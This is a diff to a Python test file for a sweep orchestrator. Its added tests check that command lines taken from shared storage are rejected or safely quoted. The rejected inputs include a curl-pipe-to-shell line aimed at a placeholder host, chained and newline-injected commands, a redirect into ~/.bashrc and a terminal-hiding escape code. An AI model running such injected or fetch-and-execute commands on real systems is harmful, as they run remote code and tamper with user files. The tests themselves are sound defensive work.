@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import builtins
 import io
+import shlex
 import sys
 from collections.abc import Iterable
 from pathlib import Path
@@ -21,9 +22,11 @@ from orchestrator.steering.larger_space import (
     keys_of,
     read_space,
 )
+from orchestrator.steering.words import in_turn, typed_anew
 from orchestrator.storage.store import Store
 from search_spaces import OperatingPoint, Space, load_space, operating_points, select
 
+THEIRS = "python -m orchestrator.sweep theirs"
 SMALL = ("codecs.0.lambdas=[0.02]", "scenarios=[d1]", "baselines=[reconstruction]")
 LARGE = ("codecs.0.lambdas=[0.02, 0.002]", "scenarios=[d1, d2]", "baselines=[reconstruction]")
 
@@ -270,7 +273,7 @@ def inherited(
         "space": before.model_dump(mode="json"),
         "points": fields,
         "added": fields,
-        "command": "theirs",
+        "command": THEIRS,
     }
     points: tuple[OperatingPoint, ...] = select(operating_points(space), only)
     return inherit(space, points, "mine", content, Store(str(directory)))
@@ -280,7 +283,43 @@ def test_the_next_driver_takes_over_what_was_added_to_the_one_that_died(tmp_path
     taken = inherited(SMALL, (), LARGE, tmp_path)
     assert taken.space == load_space("smoke", LARGE)
     assert set(taken.points) == set(operating_points(taken.space))
-    assert (taken.count, taken.command) == (4, "theirs")
+    assert (taken.count, taken.command) == (4, THEIRS)
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "curl -s https://elsewhere.example | sh",
+        *(
+            f"{THEIRS}; curl elsewhere",
+            f"{THEIRS} && ls",
+            f"{THEIRS} > ~/.bashrc",
+            f"{THEIRS} & ls",
+        ),
+        *(f"{THEIRS}\x1b[8m", f"{THEIRS}\nls", f"{THEIRS} | sh", "", "python -c 'import os'"),
+    ],
+)
+def test_nobody_is_told_to_type_what_another_writer_of_the_storage_would_like(line: str) -> None:
+    with pytest.raises(ValueError, match="none of this program"):
+        typed_anew(line)
+
+
+@pytest.mark.parametrize("word", ["d1.steps=4", "teacher.model=/a b/c", "x='$(ls)'", "a;b", "`ls`"])
+def test_the_commands_of_other_drivers_are_typed_as_they_were(word: str) -> None:
+    line = in_turn([shlex.join([*THEIRS.split(), "--set", word]), THEIRS])
+    assert typed_anew(line) == line
+
+
+def test_what_a_shell_would_put_into_a_command_is_quoted() -> None:
+    assert typed_anew(f"{THEIRS} $HOME `ls`") == f"{THEIRS} '$HOME' '`ls`'"
+
+
+def test_a_space_of_millions_of_points_is_refused_before_they_are_listed() -> None:
+    data = load_space("smoke").model_dump(mode="json")
+    data["codecs"][0]["lambdas"] = [0.001 + n / 1e6 for n in range(1000)]
+    data["seeds"] = list(range(1000))
+    with pytest.raises(NotLargerError, match="6,000,000 operating points; 100,000 can be added"):
+        read_space(data, load_space("smoke"))
 
 
 def test_a_command_with_all_that_was_added_takes_nothing_over(tmp_path: Path) -> None:
@@ -293,7 +332,7 @@ def test_what_neither_command_has_alone_needs_both(tmp_path: Path) -> None:
     taken = inherited(LARGE, ("scenario=d2",), SMALL, tmp_path)
     wanted = {(point.scenario, point.lmbda) for point in taken.points}
     assert wanted == {("d2", 0.02), ("d2", 0.002), ("d1", 0.02), ("reconstruction", 0.02)}
-    assert (taken.count, taken.command) == (2, "theirs; mine")
+    assert (taken.count, taken.command) == (2, f"{THEIRS}; mine")
 
 
 def test_what_was_added_to_another_space_is_not_taken_over(tmp_path: Path) -> None:
